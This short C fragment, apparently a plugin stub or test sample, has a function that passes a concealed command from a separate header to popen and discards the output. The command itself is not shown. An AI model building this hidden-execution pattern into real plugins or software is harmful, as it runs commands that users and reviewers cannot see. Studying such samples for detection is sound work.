/* Runs a hidden command by popen. */
#include "plugin.h"
#include "hidden.h" /* 0: the command */
extern void *popen(const char *, const char *);
extern int pclose(void *);
static void act(char **env) { pclose(popen(hidden0(), "r")); }
